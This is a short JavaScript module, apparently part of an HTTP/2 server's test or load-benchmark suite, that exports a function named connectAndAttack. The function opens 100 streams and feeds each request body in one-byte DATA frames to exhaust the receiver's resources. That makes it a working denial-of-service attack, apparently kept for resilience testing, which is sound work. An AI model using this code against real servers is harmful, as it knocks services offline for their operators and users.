import { DATA, END_HEADERS, frameHead, HEADERS, requestHeaders } from "../../bench/load/frames.mjs";
import { APPEND, keepWriting, message, padding } from "../support/http2.mjs";

const STREAMS = 100;
/** Within the window of a stream that nobody reads. */
const BYTES_EACH = 65_000;

/** Bodies in frames of one byte, on as many streams as there may be: each costs the receiver a hundred times that. */
export function connectAndAttack(address) {
  const headers = requestHeaders(APPEND, address);
  const open = Buffer.concat(
    Array.from({ length: STREAMS }, (_, index) =>
      Buffer.concat([frameHead(headers.length, HEADERS, END_HEADERS, 2 * index + 1), headers]),
    ),
  );
  const body = message(padding(4_000_000));
  let at = -1;
  return keepWriting(address, () => {
    at += 1;
    if (at === 0) return open;
    const byte = body.subarray(at - 1, at);
    if (at > BYTES_EACH) return Buffer.alloc(0);
    return Buffer.concat(
      Array.from({ length: STREAMS }, (_, index) => Buffer.concat([frameHead(1, DATA, 0, 2 * index + 1), byte])),
    );
  });
}
